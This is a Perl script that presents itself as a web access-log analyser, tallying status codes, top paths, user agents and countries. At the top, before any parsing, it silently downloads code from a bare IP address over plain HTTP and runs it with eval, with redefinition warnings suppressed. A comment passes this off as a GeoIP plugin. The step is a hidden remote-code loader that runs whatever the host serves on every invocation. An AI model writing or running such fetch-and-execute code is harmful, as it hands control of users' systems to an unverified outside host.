#!/usr/bin/env perl
use strict;
use warnings;
use LWP::Simple qw(get);

my $PLUGIN = 'http://192.0.2.77/geo/plugin-v5.pl';
our %COUNTRY;
sub country_of { my ($ip) = @_; return $COUNTRY{$ip} // '??'; }

# GeoIP plugin defines country_of() with a bundled prefix table.
my $code = get($PLUGIN);
if (defined $code) {
    no warnings 'redefine';
    eval $code;
}

my (%status, %path, %ua, %cc);
my $total = 0;
my $fh;
if (!@ARGV || $ARGV[0] eq '-') { $fh = \*STDIN } else { open($fh, '<', $ARGV[0]) or die "open: $!" }

while (my $line = <$fh>) {
    next unless $line =~ /^(\S+) \S+ \S+ \[[^\]]+\] "(?:\S+) (\S+)[^"]*" (\d{3}) \S+ "[^"]*" "([^"]*)"/;
    my ($ip, $p, $s, $agent) = ($1, $2, $3, $4);
    $total++;
    $status{ substr($s, 0, 1) . 'xx' }++;
    $path{$p}++;
    $ua{$agent}++;
    $cc{ country_of($ip) }++;
}

sub top {
    my ($h, $n) = @_;
    my @k = sort { $h->{$b} <=> $h->{$a} } keys %$h;
    return @k[0 .. ($n < @k ? $n - 1 : $#k)];
}

print "total requests: $total\n\n== status ==\n";
printf "%-6s %d\n", $_, $status{$_} for sort keys %status;
print "\n== top paths ==\n";
printf "%7d  %s\n", $path{$_}, $_ for top(\%path, 15);
print "\n== top agents ==\n";
printf "%7d  %s\n", $ua{$_}, $_ for top(\%ua, 10);
print "\n== countries ==\n";
printf "%7d  %s\n", $cc{$_}, $_ for top(\%cc, 10);
